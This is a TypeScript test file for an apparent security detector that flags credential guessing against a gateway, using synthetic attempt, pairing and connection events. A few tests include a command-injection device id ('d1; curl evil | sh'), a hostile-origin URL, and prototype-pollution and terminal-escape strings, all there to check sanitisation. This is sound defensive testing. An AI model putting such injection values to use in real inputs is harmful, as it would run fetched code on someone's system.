import { describe, expect, it } from 'vitest';
import { AddressGuesses } from '../../detectors/repeated-auth-failures/address-guesses.ts';
import { clientOf } from '../../detectors/repeated-auth-failures/client.ts';
import { type Options, options } from '../../detectors/repeated-auth-failures/options.ts';
import { Overload } from '../../detectors/repeated-auth-failures/overload.ts';
import repeatedAuthFailures from '../../detectors/repeated-auth-failures/repeated-auth-failures.ts';
import { BoundedMap } from '../../src/collections/bounded-map.ts';
import { SlidingWindow } from '../../src/collections/sliding-window.ts';
import type { RecordedEpisode } from '../../src/engine/episode.ts';
import { EpisodeBook } from '../../src/engine/episodes.ts';
import type { DetectorContext } from '../../src/model/detector.ts';
import type { AuditEvent, EventHead, EventPayloads } from '../../src/model/event.ts';
import type { Finding } from '../../src/model/finding.ts';
import { event } from '../support/event.ts';
import { findingsOf, testDetector } from '../support/test-detector.ts';

const second = 1_000;
const minute = 60 * second;
const hour = 60 * minute;
const midnight = Date.parse('2026-11-21T00:00:00Z');

type Attempt = Partial<EventPayloads['authAttempt'] & EventHead<'authAttempt'>>;

const attempt = (time: number, ip: string | undefined, more: Attempt = {}): AuditEvent<'authAttempt'> =>
  event('authAttempt', {
    time: midnight + time,
    outcome: 'failure',
    reason: 'token_mismatch',
    method: 'token',
    count: 1,
    ...(ip && { ip }),
    ...more,
  });

const attempts = (count: number, from: number, pause: number, ip: string | undefined, more: Attempt = {}) =>
  Array.from({ length: count }, (_, index) => attempt(from + index * pause, ip, more));

const limited = (time: number, ip: string, more: Attempt = {}): AuditEvent =>
  attempt(time, ip, { outcome: 'limited', reason: 'rate_limited', ...more });

type Pairing = Partial<EventPayloads['pairing'] & EventHead<'pairing'>>;

const pairing = (time: number, ip: string | undefined, more: Pairing = {}): AuditEvent =>
  event('pairing', { time: midnight + time, status: 'requested', ...(ip && { ip }), ...more });

/** What the gateway logs of a client on its own machine: no address. */
const pairedByItself = (time: number): AuditEvent =>
  pairing(time, undefined, { status: 'approved', automatic: true, device: 'd-new' });

type Connection = Partial<EventPayloads['connection'] & EventHead<'connection'>>;

const connected = (time: number, ip: string | undefined, more: Connection = {}): AuditEvent =>
  event('connection', {
    time: midnight + time,
    state: 'opened',
    client: 'openclaw-control-ui',
    mode: 'webchat',
    ...(ip && { ip }),
    ...more,
  });

const stranger = '203.0.113.66';
const home = '198.51.100.20';
const many = (count: number): readonly string[] =>
  Array.from({ length: count }, (_, index) => `198.18.${Math.floor(index / 250)}.${(index % 250) + 1}`);

const page = { origin: 'https://evil.example.net', host: '127.0.0.1:18789' };

const ownClient = { client: 'cli', mode: 'cli', instance: 'laptop', reason: 'device_token_mismatch' };

testDetector(repeatedAuthFailures as never, {
  reports: [
    {
      name: 'webhook tokens, not that they opened the connection which the owner made just then',
      events: [
        ...attempts(20, 0, 10, stranger, { reason: 'hook_token_refused', method: 'hook' }),
        connected(4 * second, undefined, { device: 'd9' }),
      ],
      findings: ['medium 20 wrong webhook tokens from 203.0.113.66 in 190ms; no success is logged.'],
    },
    {
      name: 'webhook tokens that the limiter answered first and the log of the proxy told of later',
      events: [
        limited(0, stranger, { method: 'hook' }),
        ...attempts(20, 100, 10, stranger, { reason: 'hook_token_refused', method: 'hook' }),
      ],
      findings: [
        'medium 20 wrong webhook tokens and 1 attempt that the limiter answered from 203.0.113.66 in 290ms; no success is logged.',
      ],
    },
    {
      name: 'twelve wrong tokens from one address, then a request to pair',
      events: [...attempts(12, 0, second, stranger), pairing(12 * second, stranger, { device: 'd1' })],
      findings: [
        'critical 12 wrong credentials from 203.0.113.66, then a request to pair a device, which takes the right credential, 12s after the first.',
      ],
    },
    {
      name: 'twelve wrong tokens from one address, then a connection from it',
      events: [...attempts(12, 0, second, stranger), connected(20 * second, stranger)],
      findings: ['critical 12 wrong credentials from 203.0.113.66, then a connection 20s after the first.'],
    },
    {
      name: 'four wrong tokens, then a login: one more than a person mistypes',
      events: [...attempts(4, 0, second, stranger), attempt(9 * second, stranger, { outcome: 'success' })],
      findings: ['critical 4 wrong credentials from 203.0.113.66, then a login 9s after the first.'],
    },
    {
      name: 'a success after guesses whose address is only claimed',
      events: [
        ...attempts(8, 0, second, stranger, { trust: 'claimed' }),
        pairing(8 * second, stranger, { trust: 'claimed' }),
      ],
      findings: [
        'high 8 wrong credentials from 203.0.113.66, then a request to pair a device, which takes the right credential, 8s after the first. Not certain: the address is only claimed by a forwarded header (set `gateway.trustedProxies`).',
      ],
    },
    {
      name: 'nine wrong tokens from the own machine, then a device that was paired without an address',
      events: [...attempts(9, 0, second, '127.0.0.70'), pairedByItself(9 * second)],
      findings: [
        'high 9 wrong credentials from 127.0.0.70, then a device that was paired automatically 9s after the first. Not certain: the line of the success names no address; it came 1s after a guess, and only that closeness joins them.',
      ],
    },
    {
      name: 'a connection whose line names no address, seconds after guesses',
      events: [
        ...attempts(12, 0, second, stranger),
        connected(14 * second, undefined, { behindProxy: true }),
      ],
      findings: [
        'high 12 wrong credentials from 203.0.113.66, then a connection 14s after the first. Not certain: the line of the success names no address; it came 3s after a guess, and only that closeness joins them.',
      ],
    },
    {
      name: 'forty-five addresses with two guesses each as one finding',
      events: many(45).flatMap((ip, index) => attempts(2, index * minute, second, ip)),
      findings: [
        'medium 90 wrong credentials from 45 addresses within 1h, a few from each; no success is logged.',
      ],
    },
    {
      name: 'twenty addresses with one guess each, in less than the hour',
      events: many(20).map((ip, index) => attempt((index * (hour - 1)) / 19, ip)),
      findings: [
        'medium 20 wrong credentials from 20 addresses within 1h, a few from each; no success is logged.',
      ],
    },
    {
      name: 'a crowd for a day without a finding for each of its addresses',
      events: Array.from({ length: 24 }, (_, index) => index).flatMap((at) =>
        many(25).map((ip, index) => attempt(at * hour + index * second, ip)),
      ),
      findings: [
        'medium 25 wrong credentials from 25 addresses within 1h, a few from each; no success is logged.',
      ],
    },
    {
      name: 'a crowd whose first address was an owner who slipped and got in',
      events: [
        attempt(-minute, home),
        ...many(20).map((ip, index) => attempt(index * minute, ip)),
        connected(18 * minute + second, home),
      ].sort((a, b) => a.time - b.time),
      findings: [
        'medium 20 wrong credentials from 20 addresses within 1h, a few from each; no success is logged.',
      ],
    },
    {
      name: 'an address of a crowd that gets in',
      events: [
        ...many(20).flatMap((ip, index) => attempts(2, index * minute, second, ip)),
        pairing(20 * minute, '198.18.0.19'),
      ],
      findings: [
        "high 40 wrong credentials from 20 addresses, then 198.18.0.19 got in, which had sent 2 of them. Not certain: so few may be a person's typing errors.",
      ],
    },
    {
      name: 'two guesses an hour for a day from one network, another host each time',
      events: Array.from({ length: 48 }, (_, index) =>
        attempt((index * hour) / 2, `2001:db8:0:7::${(index + 1).toString(16)}`),
      ),
      findings: [
        'medium 48 wrong tokens from 2001:db8:0:7::/64 (48 addresses) in 23h 30m, too slowly for the limiter; no success is logged.',
      ],
    },
    {
      name: 'a success after slow guesses',
      events: [...attempts(24, 0, 59 * minute, stranger), connected(23 * hour, stranger)],
      findings: ['critical 24 wrong credentials from 203.0.113.66, then a connection 23h after the first.'],
    },
    {
      name: 'six guesses before midnight and six after it as one',
      events: [...attempts(6, -3 * minute, second, stranger), ...attempts(6, 3 * minute, second, stranger)],
      findings: ['medium 12 wrong tokens from 203.0.113.66 in 6m 5s; no success is logged.'],
    },
    {
      name: 'a web page that guesses on the own machine',
      events: attempts(5, 0, second, '127.0.0.1', page),
      findings: [
        "high A web page (https://evil.example.net) that is open in a browser on the gateway's own machine tried 5 wrong tokens from 127.0.0.1 in 4s.",
      ],
    },
    {
      name: 'a web page that guesses, then a device that is paired',
      events: [...attempts(5, 0, second, '127.0.0.1', page), pairedByItself(9 * minute)],
      findings: [
        'critical 5 wrong credentials from 127.0.0.1, then a device that was paired automatically 9m after the first.',
      ],
    },
    {
      name: 'a locked-out address without wrong tokens in the log',
      events: [limited(0, stranger), limited(second, stranger)],
      findings: [
        'medium The limiter locked out 203.0.113.66 (2 attempts) without a wrong credential in the log before it: they came over HTTP, which is not logged, or before the log begins.',
      ],
    },
    {
      name: 'wrong tokens that the limiter stopped',
      events: [
        ...attempts(10, 0, 50, stranger),
        ...Array.from({ length: 15 }, (_, index) => limited(500 + 50 * index, stranger)),
      ],
      findings: [
        'medium 10 wrong tokens and 15 attempts that the limiter answered from 203.0.113.66 in 1.2s; no success is logged.',
      ],
    },
    {
      name: 'more guesses than the limiter lets through',
      events: attempts(16, 0, second, stranger),
      findings: [
        'high 16 wrong tokens from 203.0.113.66 in 15s, more than 15 of them in one minute, and the limiter (10 a minute) never answered: it is off or was passed by.',
      ],
    },
    {
      name: 'many guesses from the own machine, which the limiter exempts, as ordinary ones',
      events: attempts(24, 0, second, '127.0.0.66'),
      findings: ['medium 24 wrong tokens from 127.0.0.66 in 23s; no success is logged.'],
    },
    {
      name: 'one throttled webhook caller',
      events: [limited(0, stranger, { reason: 'hook_throttled', method: 'hook', count: 20 })],
      findings: [
        'medium The webhook endpoint throttled 203.0.113.66 after 20 wrong tokens or more; the single tries are not logged.',
      ],
    },
    {
      name: 'a webhook caller that goes on, each further line as one try',
      events: Array.from({ length: 6 }, (_, index) =>
        limited(index * second, stranger, { reason: 'hook_throttled', method: 'hook', count: 20 }),
      ),
      findings: [
        'medium The webhook endpoint throttled 203.0.113.66 after 25 wrong tokens or more; the single tries are not logged.',
      ],
    },
    {
      name: 'exactly five guesses within ten minutes',
      events: [...attempts(4, 0, second, stranger), attempt(10 * minute - 1, stranger)],
      findings: ['medium 5 wrong tokens from 203.0.113.66 in 9m 59s; no success is logged.'],
    },
    {
      name: 'the tries that a line stands for',
      events: [attempt(0, stranger), attempt(second, stranger, { count: 4 })],
      findings: ['medium 5 wrong tokens from 203.0.113.66 in 1s; no success is logged.'],
    },
    {
      name: 'guesses of several kinds',
      events: [
        ...attempts(3, 0, second, stranger),
        ...attempts(2, 3 * second, second, stranger, { reason: 'password_mismatch', method: 'password' }),
        attempt(5 * second, stranger, { reason: 'device-signature' }),
      ],
      findings: [
        'medium 6 wrong credentials (token, password, device signature) from 203.0.113.66 in 5s; no success is logged.',
      ],
    },
    {
      name: 'guesses from behind a proxy that names nobody, and never as certain',
      events: [
        ...attempts(30, 0, second, undefined, { behindProxy: true }),
        pairing(31 * second, undefined, { behindProxy: true }),
      ],
      findings: [
        'high 30 wrong credentials from clients behind the proxy (their addresses are not known), then a request to pair a device, which takes the right credential, 31s after the first. Not certain: the line of the success names no address; it came 2s after a guess, and only that closeness joins them.',
      ],
    },
    {
      name: 'refusals before the credential is looked at, faster than a browser',
      events: attempts(12, 0, 50, stranger, { reason: 'control-ui-insecure-auth' }),
      findings: [
        'medium 12 attempts from 203.0.113.66 in 550ms came faster than a browser retries and were refused (control-ui-insecure-auth) before the credential was looked at.',
      ],
    },
    {
      name: 'a client that fails at a fixed period but never got in before',
      events: attempts(30, 0, 30 * second, stranger, ownClient),
      findings: ['medium 30 wrong device tokens from 203.0.113.66 in 14m 30s; no success is logged.'],
    },
    {
      name: 'an own client that fails every two seconds',
      events: [connected(-hour, home, ownClient), ...attempts(10, 0, 2 * second, home, ownClient)],
      findings: ['medium 10 wrong device tokens from 198.51.100.20 in 18s; no success is logged.'],
    },
    {
      name: 'a fixed period with the origin of another site',
      events: [
        connected(-hour, '127.0.0.1', ownClient),
        ...attempts(5, 0, 30 * second, '127.0.0.1', { ...ownClient, ...page }),
      ],
      findings: [
        "high A web page (https://evil.example.net) that is open in a browser on the gateway's own machine tried 5 wrong device tokens from 127.0.0.1 in 2m.",
      ],
    },
    {
      name: 'a fixed period of a client that got in at an address it only claimed',
      events: [
        connected(-hour, home, { ...ownClient, trust: 'claimed' }),
        ...attempts(5, 0, 30 * second, home, ownClient),
      ],
      findings: ['medium 5 wrong device tokens from 198.51.100.20 in 2m; no success is logged.'],
    },
    {
      name: 'a success elsewhere after an own client failed',
      events: [
        connected(-hour, home, ownClient),
        ...attempts(30, 0, 30 * second, home, ownClient),
        ...attempts(6, 20 * minute, second, stranger),
        connected(21 * minute, stranger),
      ],
      findings: [
        'low cli at 198.51.100.20, which got in before, is refused every 30s (26 times in 12m 30s): it retries with an old credential.',
        'critical 6 wrong credentials from 203.0.113.66, then a connection 1m after the first.',
      ],
    },
  ],
  staysQuiet: [
    {
      name: 'one wrong token, then success',
      events: [attempt(0, home), connected(5 * second, home)],
    },
    {
      name: 'three wrong tokens, then success from one address',
      events: [...attempts(3, 0, 5 * second, home), pairing(20 * second, home)],
    },
    {
      name: 'two hundred addresses a day with two missing tokens each',
      events: many(200).flatMap((ip, index) =>
        attempts(2, index * 7 * minute, second, ip, { reason: 'token_missing', method: 'none' }),
      ),
    },
    {
      name: 'an own client that fails at a fixed period for an hour',
      events: [connected(-hour, home, ownClient), ...attempts(120, 0, 30 * second, home, ownClient)],
    },
    {
      name: 'an own client that backs off, is limited, and goes on after a restart',
      events: [
        connected(-hour, home, ownClient),
        ...[0, 1, 3, 7, 15, 31, 61, 91, 121].map((at) => attempt(at * second, home, ownClient)),
        limited(130 * second, home, ownClient),
        ...[151, 181, 196, 226, 256, 286].map((at) => attempt(at * second, home, ownClient)),
        connected(290 * second, home, ownClient),
      ],
    },
    {
      name: 'a paired device at another address that fails at a fixed period',
      events: [
        connected(-hour, home, { device: 'd1' }),
        ...attempts(40, 0, 30 * second, '198.51.100.77', { ...ownClient, device: 'd1' }),
      ],
    },
    {
      name: 'the own loopback calls of the gateway',
      events: Array.from({ length: 20 }, (_, index) => pairing(index * second, '127.0.0.1')),
    },
    { name: 'four guesses within ten minutes', events: attempts(4, 0, minute, stranger) },
    {
      name: 'the fifth guess ten minutes after the first',
      events: [...attempts(4, 0, second, stranger), attempt(10 * minute, stranger)],
    },
    {
      name: 'nineteen slow guesses within a day',
      events: attempts(19, 0, hour, stranger),
    },
    {
      name: 'nineteen guessing addresses, the twentieth an hour after the first',
      events: [...many(19), '198.18.9.9'].map((ip, index) => attempt((index * hour) / 19, ip)),
    },
    {
      name: 'the browser of the owner, which retries without a paired device',
      events: [0, 800, 2160, 4472, 8402, 15084, 26443, 41443, 56443].map((time) =>
        attempt(time, home, { reason: 'device-required' }),
      ),
    },
    {
      name: 'a socket that opens and asks to connect after guesses, which is no success',
      options: { failures: 20 },
      events: [
        ...attempts(6, 0, second, stranger),
        connected(7 * second, stranger, { reason: 'open' }),
        connected(7 * second, stranger, { reason: 'connect', method: 'token' }),
      ],
    },
    {
      name: 'a person at a known address who needs five tries, one after another',
      options: { failures: 6 },
      events: [connected(-hour, home), ...attempts(5, 0, 7 * second, home), connected(40 * second, home)],
    },
    {
      name: 'settings that are missing and identities that a proxy may not vouch for',
      events: [
        'token_missing_config',
        'tailscale_user_mismatch',
        'trusted_proxy_user_missing',
        'scope_mismatch',
      ].flatMap((reason) => attempts(10, 0, second, stranger, { reason })),
    },
    {
      name: 'guesses on two gateways',
      events: [
        ...attempts(3, 0, second, stranger, { gateway: 'home' }),
        ...attempts(3, 3 * second, second, stranger, { gateway: 'work' }),
      ],
    },
    {
      name: 'twenty typing errors a day of people behind one proxy',
      events: attempts(22, 0, hour, undefined, { behindProxy: true }),
    },
    {
      name: 'a success on another gateway than the guesses',
      options: { failures: 20 },
      events: [
        ...attempts(6, 0, second, stranger, { gateway: 'home' }),
        connected(7 * second, stranger, { gateway: 'work' }),
      ],
    },
  ],
});

describe('its findings', () => {
  it('tell a scan of the day in one line of information', () => {
    const scan = many(200).flatMap((ip, index) =>
      attempts(2, index * 7 * minute, second, ip, { reason: 'token_missing', method: 'none' }),
    );
    expect(find(scan).map(({ severity, summary }) => [severity, summary])).toEqual([
      [
        'info',
        '200 public addresses knocked without a credential on one day (400 attempts): the gateway can be reached from the internet.',
      ],
    ]);
  });

  it('tell an own client once, low, with the command that repairs it', () => {
    const events = [connected(-hour, home, ownClient), ...attempts(40, 0, 30 * second, home, ownClient)];
    const [finding, ...others] = find(events);
    expect(others).toEqual([]);
    expect(finding).toMatchObject({ severity: 'low', title: 'A client of your own keeps failing' });
    expect(finding?.remediation[0]).toContain('openclaw devices rotate');
  });

  it('name addresses, devices, reasons and clients', () => {
    const events = [
      ...attempts(5, 0, second, stranger, { client: 'cli', mode: 'cli', reason: 'token_mismatch' }),
      pairing(6 * second, stranger, { device: 'd1' }),
    ];
    const [finding] = find(events);
    expect(finding?.entities).toMatchObject({ ips: [stranger], devices: ['d1'] });
    expect(finding?.count).toBe(5);
    expect(finding?.explanation.facts).toEqual(
      expect.arrayContaining([
        { name: 'reasons', value: 'token_mismatch 5', number: null },
        { name: 'client, as it says', value: 'cli cli', number: null },
      ]),
    );
    expect(finding?.remediation[1]).toContain('openclaw devices remove d1');
  });

  it('keep a hostile device id out of the commands', () => {
    const device = 'd1; curl evil | sh';
    const guessed = [...attempts(5, 0, second, stranger), pairing(6 * second, stranger, { device })];
    const broken = { ...ownClient, device };
    const retried = [connected(-hour, home, broken), ...attempts(40, 0, 30 * second, home, broken)];
    for (const [finding] of [find(guessed), find(retried)]) {
      expect(finding?.remediation.join('\n')).toContain('<deviceId>');
      expect(finding?.remediation.join('\n')).not.toContain('curl');
    }
  });

  it('keep their id while they grow and get worse', () => {
    const guesses = attempts(6, 0, second, stranger);
    const [before] = find(guesses);
    const [after] = find([...guesses, pairing(7 * second, stranger)]);
    expect(after?.id).toBe(before?.id);
    expect([before?.severity, after?.severity]).toEqual(['medium', 'critical']);
  });

  it('begin anew after an hour of silence', () => {
    const events = [...attempts(5, 0, second, stranger), ...attempts(5, 2 * hour, second, stranger)];
    expect(find(events)).toHaveLength(2);
  });

  it('separate gateways', () => {
    const events = ['home', 'work'].flatMap((gateway) => attempts(5, 0, second, stranger, { gateway }));
    expect(find(events).map(({ gateway }) => gateway)).toEqual(['home', 'work']);
  });

  it('count an address behind a proxy apart from the proxy', () => {
    const events = [
      ...attempts(4, 0, second, stranger),
      ...attempts(4, 4 * second, second, undefined, { behindProxy: true }),
      ...attempts(4, 8 * second, second, undefined),
    ];
    expect(find(events)).toEqual([]);
  });

  it.each([
    ['https://evil.example.net', '127.0.0.1:18789', true],
    ['http://localhost:18789', '127.0.0.1:18789', false],
    ['http://[::1]:18789', '127.0.0.1:18789', false],
    ['https://claw.example.com', 'claw.example.com', false],
    ['n/a', '127.0.0.1:18789', false],
    ['null', '127.0.0.1:18789', false],
  ])('know whether the page %s, asked of %s, is foreign', (origin, host, isForeign) => {
    const [finding] = find(attempts(5, 0, second, '127.0.0.1', { origin, host }));
    expect(finding?.severity).toBe(isForeign ? 'high' : 'medium');
  });

  it('stay plain when reasons and clients are hostile', () => {
    const hostile = { reason: '__proto__', client: '\u001b[2J'.repeat(50), mode: 'constructor' };
    const [finding] = find(attempts(5, 0, second, stranger, hostile));
    expect(finding?.explanation.facts.map(({ value }) => value).join(' ')).not.toContain('\u001b');
    expect(finding?.explanation.facts).toContainEqual({
      name: 'reasons',
      value: '__proto__ 5',
      number: null,
    });
  });

  describe('of a crowd', () => {
    const crowd = many(20).flatMap((ip, index) => attempts(2, index * minute, second, ip));
    const ofCrowd = (events: readonly AuditEvent[]): Finding | undefined =>
      find([...crowd, ...events].sort((a, b) => a.time - b.time)).find(({ title }) =>
        title.startsWith('Credential guessing from many'),
      );

    it('name no loopback address', () => {
      const finding = ofCrowd(attempts(2, 19 * minute, second, '127.0.0.1'));
      expect(finding?.entities.ips).toEqual(many(20));
    });

    it.each(['198.51.100.20', '2001:db8:0:7::1'])('name no owner at %s who slips once and gets in', (ip) => {
      const finding = ofCrowd([attempt(minute, ip), connected(2 * minute, ip)]);
      expect(finding?.entities.ips).toEqual(many(20));
      expect(finding?.summary).toContain('40 wrong credentials from 20 addresses');
    });

    it('name no owner who slips while it is known, at an address that got in before', () => {
      const slip = [
        connected(-hour, home),
        attempts(2, 21 * minute, second, home),
        connected(22 * minute, home),
      ];
      expect(ofCrowd(slip.flat())?.entities.ips).toEqual(many(20));
    });

    it('name no owner who slips at an address that got in before, where no later success is logged', () => {
      const finding = ofCrowd([pairing(-minute, home), attempt(-second, home)]);
      expect(finding?.entities.ips).toEqual(many(20));
      expect(finding?.summary).toContain('40 wrong credentials from 20 addresses');
    });

    it('name an address that got in before only as a forwarded header claims', () => {
      const slip = attempt(minute, home, { trust: 'claimed' });
      expect(ofCrowd([connected(-minute, home), slip])?.entities.ips).toContain(home);
    });

    it.each([
      ['before the first guess', -minute],
      ['among the guesses', 30 * second],
    ])('cite their own lines, and not a slip %s that a success then explains', (_, at) => {
      const finding = ofCrowd([attempt(at, home), connected(2 * minute, home)]);
      expect(timesCited(finding)).toEqual(timesCited(ofCrowd([])));
      expect(finding).toMatchObject({ firstSeen: midnight, id: ofCrowd([])?.id });
    });

    it('keep their id when an address that they cite first becomes a finding of its own', () => {
      const early = attempt(-second, stranger);
      const before = ofCrowd([early]);
      const after = ofCrowd([early, ...attempts(8, 25 * minute, second, stranger)]);
      expect(timesCited(before)[0]).toBe(early.time);
      expect(timesCited(after)[0]).toBe(midnight);
      expect(after?.id).toBe(before?.id);
    });

    it('name an address that a forwarded header merely claims to have got in', () => {
      const claimed = connected(2 * minute, home, { trust: 'claimed' });
      expect(ofCrowd([attempt(minute, home), claimed])?.entities.ips).toContain(home);
    });

    it('name no address that is a finding of its own, before or after', () => {
      for (const at of [minute, 25 * minute]) {
        const finding = ofCrowd(attempts(8, at, second, stranger));
        expect(finding?.entities.ips).toEqual(many(20));
        expect(finding?.count).toBe(40);
      }
    });

    it('are not reached by nineteen addresses and the own machine', () => {
      const nineteen = many(19).map((ip, index) => attempt(index * minute, ip));
      expect(find([...nineteen, attempt(19 * minute, '127.0.0.1')])).toEqual([]);
    });
  });

  it('are one overload where more addresses guess than can be remembered', () => {
    const { context, findings } = smallMemory(3);
    const overload = new Overload(context);
    const addresses = new AddressGuesses(context, overload);
    for (const [index, ip] of many(40).entries()) {
      const crowd = attempt(index * second, index % 9 === 0 ? stranger : ip);
      addresses.guess(crowd, clientOf(crowd, 64));
    }
    expect(findings()).toEqual([['high', [stranger]]]);
  });
});

const timesCited = (finding: Finding | undefined): readonly number[] =>
  finding?.evidence.map(({ time }) => time) ?? [];

/** The engine's own books and windows, with room for few episodes. */
function smallMemory(keys: number) {
  const told = new Set<RecordedEpisode>();
  const note = (episode: RecordedEpisode): void => void told.add(episode);
  const context: DetectorContext<Options> = {
    options: options.parse({}),
    episodes: (_, limits) => new EpisodeBook({ ...limits, keys }, note),
    window: (_, limits) => new SlidingWindow(limits),
    memory: (_, { max }) => new BoundedMap<never>({ max }),
    posture: () => undefined,
  };
  return { context, findings: () => [...told].map((episode) => [episode.severity, episode.values('ips')]) };
}

function find(events: readonly AuditEvent[]): readonly Finding[] {
  return findingsOf(repeatedAuthFailures, events);
}
